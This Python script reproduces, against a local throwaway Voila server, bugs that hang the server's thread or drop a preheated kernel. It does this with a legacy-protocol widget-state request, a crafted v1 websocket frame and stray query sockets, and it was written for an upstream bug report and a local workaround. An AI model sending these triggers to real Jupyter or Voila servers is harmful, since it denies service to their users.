"""Reproduce, against Voila as shipped (no configuration from this folder), the two bugs
``serve/guard.py`` works around (issue #23; the report to file upstream is ``UPSTREAM.md``).

    python -m serve.upstream_repro legacy   # a legacy-protocol reply loops the server's thread
    python -m serve.upstream_repro frame    # a crafted v1 frame from a browser loops the server's thread
    python -m serve.upstream_repro query    # a stray query socket removes a preheated kernel's waiter
    python -m serve.upstream_repro legacy --guarded   # the same against `make serve`'s configuration

Each starts its own Voila on a free port serving a throwaway folder, runs the scripted visitor, says
whether the server still answers, and stops the server (and its kernels) at the end.
"""
from __future__ import annotations

import argparse
import asyncio
import json
import re
import sys
import tempfile
import time
import urllib.request
import uuid
from datetime import datetime, timezone
from pathlib import Path

from serve.launch import start_voila, stop, tail

IMAGE_PAGE = """import ipywidgets as widgets
widgets.Image(value=bytes(range(256)) * 64, format="png")"""
LINKED_PAGE = """from voila.utils import get_query_string
print("query:", get_query_string())"""


def notebook(folder: Path, name: str, source: str) -> None:
    cell: dict[str, object] = {"cell_type": "code", "execution_count": None, "id": "c1", "metadata": {}, "outputs": [],
            "source": source}
    nb = {"cells": [cell], "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python",
                                                       "name": "python3"}},
          "nbformat": 4, "nbformat_minor": 5}
    (folder / name).write_text(json.dumps(nb))


def answers(url: str, within: float = 3.0) -> bool:
    try:
        with urllib.request.urlopen(url + "/voila/static/voila.js", timeout=within) as response:
            return response.status == 200
    except Exception:  # noqa: BLE001 - a timeout is the answer
        return False


def get_page(url: str, path: str, within: float = 60.0) -> tuple[str, str]:
    """(HTML, cookie header) of a page, or ("", "") if it did not finish within ``within``."""
    opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor())
    deadline = time.monotonic() + within
    try:
        with opener.open(url + path, timeout=within) as response:
            cookies = "; ".join(response.headers.get_all("Set-Cookie") or [])
            body = b""
            while chunk := response.read1(65536):
                body += chunk
                if time.monotonic() > deadline:
                    return "", ""
    except Exception:  # noqa: BLE001
        return "", ""
    cookie = "; ".join(part.split(";")[0] for part in cookies.split(", ") if "=" in part.split(";")[0])
    return body.decode(), cookie


def v1_frame(channel: str, msg_type: str, content: dict) -> bytes:
    from jupyter_server.services.kernels.connection.base import serialize_msg_to_ws_v1

    header = {"msg_id": uuid.uuid4().hex, "username": "u", "session": "s", "msg_type": msg_type,
              "version": "5.3", "date": datetime.now(timezone.utc).isoformat()}
    return serialize_msg_to_ws_v1([json.dumps(p).encode() for p in (header, {}, {}, content)], channel)


async def legacy_visitor(url: str, kernel_id: str, cookie: str) -> str:
    """The kernel websocket without a subprotocol; ask every widget for its state (JSON, legacy)."""
    from tornado.httpclient import HTTPClientError, HTTPRequest
    from tornado.websocket import websocket_connect

    ws = url.replace("http", "ws", 1) + f"/api/kernels/{kernel_id}/channels?session_id=repro"
    try:
        conn = await websocket_connect(HTTPRequest(ws, headers={"Cookie": cookie}))
    except HTTPClientError as refused:
        return f"refused ({refused.code})"

    def message(msg_type, content):
        return json.dumps({"header": {"msg_id": uuid.uuid4().hex, "username": "u", "session": "s",
                                      "msg_type": msg_type, "version": "5.3"},
                           "parent_header": {}, "metadata": {}, "content": content, "channel": "shell"})

    conn.write_message(message("comm_info_request", {"target_name": "jupyter.widget"}))
    while True:
        reply = await asyncio.wait_for(conn.read_message(), 10)
        if isinstance(reply, str) and '"comm_info_reply"' in reply:
            comms = json.loads(reply)["content"]["comms"]
            break
    for comm_id in comms:
        conn.write_message(message("comm_msg", {"comm_id": comm_id, "data": {"method": "request_state"}}))
    await asyncio.sleep(1)
    return "connected on the legacy protocol; asked every widget for its state"


async def frame_visitor(url: str, kernel_id: str, cookie: str) -> str:
    """The kernel websocket on the v1 protocol; one binary frame whose first 8 bytes claim 2**64-1 offsets."""
    from tornado.httpclient import HTTPClientError, HTTPRequest
    from tornado.websocket import websocket_connect

    ws = url.replace("http", "ws", 1) + f"/api/kernels/{kernel_id}/channels?session_id=repro"
    try:
        conn = await websocket_connect(HTTPRequest(ws, headers={"Cookie": cookie}),
                                       subprotocols=["v1.kernel.websocket.jupyter.org"])
    except HTTPClientError as refused:
        return f"refused ({refused.code})"
    conn.write_message(b"\xff" * 8 + b"\x00" * 64, binary=True)
    await asyncio.sleep(1)
    return "sent one crafted frame on the v1 protocol"


def kernel_id_of(html: str) -> str:
    """The kernel id a Voila page's HTML names."""
    found = re.search(r'"kernelId":\s*"([0-9a-f-]{36})"', html)
    if found is None:
        raise RuntimeError("the page names no kernel")
    return found.group(1)


def frame(url: str) -> bool:
    html, cookie = get_page(url, "/voila/render/image.ipynb")
    kernel_id = kernel_id_of(html)
    print("visitor:", asyncio.run(frame_visitor(url, kernel_id, cookie)))
    time.sleep(2)
    ok = all(answers(url) for _ in range(3))
    print("the server still answers within 3 s:", ok)
    return ok


def legacy(url: str) -> bool:
    html, cookie = get_page(url, "/voila/render/image.ipynb")
    kernel_id = kernel_id_of(html)
    print("visitor:", asyncio.run(legacy_visitor(url, kernel_id, cookie)))
    time.sleep(2)
    ok = all(answers(url) for _ in range(3))
    print("the server still answers within 3 s:", ok)
    return ok


async def stray_sockets(url: str, made_up: str, close_after: float) -> str:
    from tornado.httpclient import HTTPClientError
    from tornado.websocket import websocket_connect

    ws = url.replace("http", "ws", 1) + f"/voila/query/{made_up}"
    try:
        first = await websocket_connect(ws)
        second = await websocket_connect(ws)
    except HTTPClientError as refused:
        return f"refused ({refused.code})"
    await asyncio.sleep(close_after)  # meanwhile a pool kernel registers its own waiter
    first.close()
    await asyncio.sleep(1)
    second.close()
    return "two sockets on a made-up id; the first closed after the pool refilled"


def query(url: str, log: Path) -> bool:
    deadline = time.monotonic() + 90
    while "Kernel pool of linked.ipynb is filled" not in log.read_text(errors="replace"):
        if time.monotonic() > deadline:
            print("the pool did not fill")
            return False
        time.sleep(0.5)
    # One visitor takes the pool's kernel: the pool refills (a new kernel, which connects to
    # /voila/query/<its id> once its notebook reaches get_query_string).
    html, _ = get_page(url, "/voila/render/linked.ipynb?first=1")
    print("first visitor's page:", "query: first=1" in html)
    print("stray visitor:", asyncio.run(stray_sockets(url, str(uuid.uuid4()), close_after=25)))
    html, _ = get_page(url, "/voila/render/linked.ipynb?second=1", within=60)
    ok = "query: second=1" in html
    print("the next visitor's preheated page opened with its query within 60 s:", ok)
    return ok


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("case", choices=["legacy", "frame", "query"])
    parser.add_argument("--guarded", action="store_true", help="with this folder's configuration")
    args = parser.parse_args(argv)
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        notebook(folder, "image.ipynb", IMAGE_PAGE)
        notebook(folder, "linked.ipynb", LINKED_PAGE)
        log = folder / "voila.log"
        settings = ["--VoilaConfiguration.preheat_kernel=True",
                    '--VoilaConfiguration.kernel_pools_config={"linked.ipynb": {"pool_size": 1}, "default": {"pool_size": 0}}']
        if args.guarded:
            settings = ["--ClassroomKernelManager.preheated_pages=linked.ipynb"]
        proc, url = start_voila(folder, log, *settings, config=args.guarded)
        try:
            ok = {"legacy": legacy, "frame": frame}[args.case](url) if args.case != "query" else query(url, log)
        finally:
            stop(proc)
        if not ok:
            print("server log (last lines):\n" + tail(log, 15))
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
